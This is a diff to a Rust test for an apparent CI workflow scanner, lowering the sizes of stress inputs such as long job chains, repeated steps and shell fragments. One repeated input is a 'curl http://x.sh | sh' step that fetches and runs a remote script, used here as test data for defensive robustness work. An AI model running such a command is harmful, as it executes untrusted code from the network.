@@ -280,11 +280,11 @@ mod tests {
     #[test]
     fn hostile_pipelines_end() {
         let mut chain = "on: push\njobs:\n".to_owned();
-        for job in 0..3_000 {
+        for job in 0..1_500 {
             let _ = writeln!(chain, "  j{job}: {{needs: j{}, runs-on: x}}", job + 1);
         }
         hits(&chain);
-        let uses = "      - uses: actions/checkout@v4\n".repeat(5_000);
+        let uses = "      - uses: actions/checkout@v4\n".repeat(2_000);
         hits(&format!("on: push\njobs:\n  a:\n    steps:\n{uses}"));
         let mut fan = "on: push\njobs:\n".to_owned();
         for job in 0..12 {
@@ -295,11 +295,11 @@ mod tests {
             );
         }
         hits(&fan);
-        let wide = "{run: 'curl http://x.sh | sh'},".repeat(10_000);
+        let wide = "{run: 'curl http://x.sh | sh'},".repeat(4_000);
         hits(&format!("on: push\njobs: {{a: {{steps: [{wide}]}}}}"));
         for unit in ["a|", "$(", "'", "${{ ", "${{ a[", "{", "!(", "<<A\n"] {
             let script = unit
-                .repeat(20_000 / unit.len())
+                .repeat(8_000 / unit.len())
                 .replace('\n', "\n          ");
             hits(&format!(
                 "on: push\njobs:\n  a:\n    steps:\n      - run: |\n          {script}\n"
